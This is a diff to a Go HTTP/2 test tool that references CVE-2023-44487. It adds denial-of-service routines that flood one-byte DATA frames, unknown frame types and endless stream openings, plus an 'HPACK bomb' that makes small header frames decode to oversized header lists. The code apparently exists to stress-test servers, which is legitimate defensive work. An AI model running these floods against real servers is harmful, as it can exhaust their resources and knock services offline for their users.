@@ -1,9 +1,12 @@
 package main
 
 import (
+	"bytes"
+	"strings"
 	"time"
 
 	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
 )
 
 // CVE-2023-44487.
@@ -106,6 +109,51 @@ func madeYouReset(c *connection) error {
 			return err
 		}
 		return c.framer.WriteWindowUpdate(id, 0)
+	})
+}
+
+// DATA of one byte each, which is less than a message begins with.
+func smallData(c *connection) error {
+	id, err := c.headers(streamPackets, false, true)
+	if err != nil {
+		return err
+	}
+	return c.flood(func() error { return c.framer.WriteData(id, false, []byte{0}) })
+}
+
+func unknownFrames(c *connection) error {
+	if _, err := c.headers(streamPackets, false, true); err != nil {
+		return err
+	}
+	return c.flood(func() error { return c.framer.WriteRawFrame(0xbe, 0, 1, nil) })
+}
+
+// Headers of more bytes than the processor said it takes, in few bytes of HPACK: one long field enters
+// the table of the decoder, and each of its uses is one byte (a "HPACK bomb").
+func headerLists(c *connection) error {
+	var text bytes.Buffer
+	encoder := hpack.NewEncoder(&text)
+	field := hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 3900)}
+	if err := encoder.WriteField(field); err != nil {
+		return err
+	}
+	first := append([]byte(nil), text.Bytes()...)
+	uses := bytes.Repeat([]byte{0x80 | 62}, 16<<10-len(first)-100)
+	return c.flood(func() error {
+		id := c.next
+		c.next += 2
+		list := append(append(block(healthCheck), first...), uses...)
+		return c.framer.WriteHeaders(http2.HeadersFrameParam{
+			StreamID: id, BlockFragment: list, EndStream: true, EndHeaders: true,
+		})
+	})
+}
+
+// The same as too-many-streams without an end.
+func openStreams(c *connection) error {
+	return c.flood(func() error {
+		_, err := c.headers(streamPackets, false, true)
+		return err
 	})
 }
 
